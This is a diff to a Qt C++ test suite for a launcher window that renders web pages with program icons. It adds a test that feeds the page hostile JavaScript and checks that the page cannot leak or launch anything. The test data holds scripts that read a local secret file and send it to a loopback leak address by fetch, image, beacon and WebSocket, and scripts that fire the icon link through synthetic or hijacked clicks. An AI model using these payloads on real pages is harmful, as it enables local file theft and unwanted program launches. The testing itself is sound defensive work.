@@ -73,7 +73,12 @@ private slots:
         QVERIFY(writeFile(m_source, "VODK") && writeFile(m_document, "notes\n"));
         m_window = std::make_unique<LauncherWindow>(&m_prompter, m_dir.path());
         // A web server on the loopback interface serving a page with an icon.
-        QVERIFY(m_server.listen(QHostAddress::LocalHost));
+        QVERIFY(m_server.listen(QHostAddress::LocalHost) && m_leak.listen(QHostAddress::LocalHost));
+        connect(&m_leak, &QTcpServer::newConnection, this, [this] {
+            while (QTcpSocket* s = m_leak.nextPendingConnection())
+                connect(s, &QTcpSocket::readyRead, s, [s, this] { m_leaked += s->readAll(); });
+        });
+        QVERIFY(writeFile(at("@/secret.txt"), "top secret"));
         connect(&m_server, &QTcpServer::newConnection, this, [this] {
             while (QTcpSocket* s = m_server.nextPendingConnection())
                 connect(s, &QTcpSocket::readyRead, s, [s, this] {
@@ -84,6 +89,7 @@ private slots:
         });
     }
     void init() {
+        m_leaked.clear();
         QFile::remove(m_record);
         m_opened.clear();
         m_prompter.messages.clear();
@@ -142,6 +148,91 @@ private slots:
             QCOMPARE(r.value(2) == QLatin1String("/dev/null"), hidden); // standard output
         }
         QVERIFY(m_window->isMinimized());
+    }
+    void hostilePageSendsAndStartsNothing_data() {
+        QTest::addColumn<QString>("script"); // added to a page that defines read(), L and I()
+        QTest::addColumn<QString>("act"); // what the user does: click "empty", key "Down", a link
+        QTest::addColumn<bool>("starts"); // the act starts the icon
+        const QString onLoad = "addEventListener('load', () => %1)";
+        QTest::newRow("read on load, sent to a &comma; address")
+            << onLoad.arg("location = L + read()") << "" << false;
+        QTest::newRow("read on load, sent by requests")
+            << onLoad.arg("{const d = read(); fetch(L + d, {mode: 'no-cors'}); "
+                          "new Image().src = L + d; navigator.sendBeacon(L, d); "
+                          "new WebSocket('ws' + L.slice(4) + d);}")
+            << "" << false;
+        QTest::newRow("local file in a frame, read on load")
+            << "addEventListener('load', () => { const f = document.createElement('iframe'); "
+               "f.onload = () => { let d = 'none'; try { d = f.contentDocument.body.innerText } "
+               "catch (e) {} location = L + d; }; f.src = 'secret.txt'; "
+               "document.body.append(f); })"
+            << "" << false;
+        QTest::newRow("read on a click elsewhere")
+            << "addEventListener('mousedown', () => location = L + read())"
+            << "empty" << false;
+        QTest::newRow("read on a key press") << "addEventListener('keydown', () => location = "
+                                                "L + read())"
+                                             << "Down" << false;
+        QTest::newRow("icon link on a click elsewhere")
+            << "addEventListener('mousedown', () => location = I())"
+            << "empty" << false;
+        QTest::newRow("icon link on a key press")
+            << "addEventListener('keydown', () => location = I())"
+            << "Down" << false;
+        QTest::newRow("link made and clicked after a click")
+            << "addEventListener('click', () => setTimeout(() => { const a = "
+               "document.createElement('a'); a.href = I(); document.body.append(a); a.click(); "
+               "}, 1200))"
+            << "empty" << false;
+        QTest::newRow("safe link rewritten on click")
+            << "addEventListener('load', () => document.getElementById('safe').onclick = "
+               "function () { this.href = I(); })"
+            << "Safe" << false;
+        QTest::newRow("synthetic events on the icon")
+            << onLoad.arg("{const a = document.querySelector('a[href^=\"pm:\"]'); a.focus(); "
+                          "for (const t of ['keydown', 'keypress', 'keyup']) a.dispatchEvent(new "
+                          "KeyboardEvent(t, {key: 'Enter', bubbles: true})); for (const t of "
+                          "['mousedown', 'mouseup', 'click']) a.dispatchEvent(new MouseEvent(t, "
+                          "{bubbles: true, detail: 1}));}")
+            << "" << false;
+        QTest::newRow("Enter on the icon") << ""
+                                           << "Enter" << true;
+    }
+    void hostilePageSendsAndStartsNothing() {
+        QFETCH(QString, script);
+        QFETCH(QString, act);
+        const QString header =
+            QStringLiteral("<a id=\"safe\" href=\"#safe\">Safe</a><script>const L = "
+                           "'http://127.0.0.1:%1/leak&comma;?d=', I = () => "
+                           "document.querySelector('a[href^=\"pm:\"]').href; function read() "
+                           "{ try { const x = new XMLHttpRequest(); x.open('GET', 'secret.txt', "
+                           "false); x.send(); return x.responseText; } catch (e) { return "
+                           "'none'; } } %2</script>")
+                .arg(m_leak.serverPort())
+                .arg(script);
+        QVERIFY(show(writePage({"Header HTML=" + header}, m_icons)));
+        QWidget* input = m_window->view()->focusProxy();
+        if (act == QLatin1String("empty"))
+            QTest::mouseClick(input, Qt::LeftButton, {}, QPoint(5, input->height() - 5));
+        else if (act == QLatin1String("Down"))
+            QTest::keyClick(input, Qt::Key_Down);
+        else if (act == QLatin1String("Enter"))
+            m_window->view()->page()->runJavaScript(
+                "document.querySelector('a[href^=\"pm:\"]').focus()",
+                [input](const QVariant&) { QTest::keyClick(input, Qt::Key_Return); });
+        else if (!act.isEmpty())
+            QVERIFY(clickLink(act));
+        QFETCH(bool, starts);
+        if (starts)
+            QCOMPARE(record().mid(3), QStringList{"clicked"});
+        else
+            QVERIFY(record(3000).isEmpty());
+        QVERIFY2(m_leaked.isEmpty(), m_leaked.constData());
+        // The page still works: the user's own click starts the icon.
+        QFile::remove(m_record);
+        QVERIFY(clickLink("Run"));
+        QCOMPARE(record().mid(3), QStringList{"clicked"});
+        QVERIFY(m_prompter.messages.isEmpty() && m_leaked.isEmpty());
     }
     void anotherPageTakesOverTheWindow_data() {
         QTest::addColumn<QString>("link");
@@ -277,6 +368,8 @@ private:
 
     QTemporaryDir m_dir;
     QTcpServer m_server;
+    QTcpServer m_leak; // where a hostile page would send what it read
+    QByteArray m_leaked;
     // The recording script and the start-in folder, with awkward names.
     QString m_program = at(QString::fromUtf8("@/bin, \"é\" 1/rec, \"q\" é"));
     QString m_startIn = at(QString::fromUtf8("@/start, \"in\" é"));
